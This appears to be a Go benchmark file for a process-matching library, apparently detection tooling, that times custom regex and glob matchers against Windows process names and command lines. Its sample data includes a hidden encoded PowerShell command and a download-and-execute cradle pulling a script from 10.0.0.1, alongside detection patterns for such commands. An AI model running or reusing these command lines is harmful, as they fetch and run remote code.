package match

import (
	"regexp"
	"testing"
)

var (
	benchBaseNames = []string{
		"explorer.exe", "svchost.exe", "chrome.exe", "services.exe", "cmd.exe", "powershell.exe",
		"WmiPrvSE.exe", "MsEdge.exe", "RuntimeBroker.exe", "OneDrive.exe", "firefox.exe", "userinit.exe",
	}
	benchCommandLines = []string{
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7 --field-trial-handle=1234`,
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		`powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\scripts\backup.ps1`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A`,
		`cmd.exe /c "echo hello > C:\temp\out.txt && type C:\temp\out.txt"`,
		`C:\Windows\System32\RuntimeBroker.exe -Embedding`,
		`powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\bob\Documents\Report Q3.docx"`,
		`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`,
		`"C:\Users\alice\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=gpu-process --field-trial-handle=1700`,
	}
)

var benchCases = []struct {
	name, pattern string
	values        []string
}{
	{"Browsers", `(?i)^(chrome|msedge|firefox|iexplore|opera|brave|vivaldi|browser)\.exe$`, benchBaseNames},
	{"EncodedCommand", `(?i)(-encodedcommand|-enc\s|-e\s|-ec\s)`, benchCommandLines},
	{"Download", `(?i)(invoke-webrequest|net\.webclient|downloadfile|downloadstring|iex\(|invoke-expression|start-bitstransfer)`, benchCommandLines},
}

var sink bool

// BenchmarkRegex reports ns per value for match.Regex and for package regexp.
func BenchmarkRegex(b *testing.B) {
	for _, bc := range benchCases {
		ours := MustCompile(bc.pattern)
		std := regexp.MustCompile(bc.pattern)
		for _, s := range bc.values { // sanity: same answers
			if ours.MatchString(s) != std.MatchString(s) {
				b.Fatalf("%s: disagreement on %q", bc.name, s)
			}
		}
		b.Run(bc.name+"/match", func(b *testing.B) {
			for i := 0; b.Loop(); i++ {
				sink = ours.MatchString(bc.values[i%len(bc.values)])
			}
		})
		b.Run(bc.name+"/regexp", func(b *testing.B) {
			for i := 0; b.Loop(); i++ {
				sink = std.MatchString(bc.values[i%len(bc.values)])
			}
		})
	}
}

func BenchmarkGlob(b *testing.B) {
	for _, bc := range []struct {
		name, pattern string
		fold          bool
		values        []string
	}{
		{"SuffixFold", `*\\powershell.exe`, true, benchCommandLines},
		{"ContainsFold", `*downloadstring*`, true, benchCommandLines},
		{"General", `C:\\Windows\\*\\*.exe*`, false, benchCommandLines},
	} {
		g := CompileGlob(bc.pattern, bc.fold)
		b.Run(bc.name, func(b *testing.B) {
			for i := 0; b.Loop(); i++ {
				sink = g.MatchString(bc.values[i%len(bc.values)])
			}
		})
	}
}
